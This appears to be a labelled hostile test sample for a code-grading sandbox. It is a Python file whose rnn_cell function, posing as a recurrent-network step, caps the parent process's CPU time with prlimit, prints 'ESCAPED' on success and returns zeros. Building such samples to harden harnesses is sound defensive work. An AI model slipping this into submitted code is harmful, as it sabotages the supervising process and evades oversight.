"""Hostile: takes away the time of the process that started it."""

import os
import resource

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    try:
        resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
        print("ESCAPED", 'prlimit')
    except (OSError, ValueError):
        pass
    return torch.zeros_like(H)
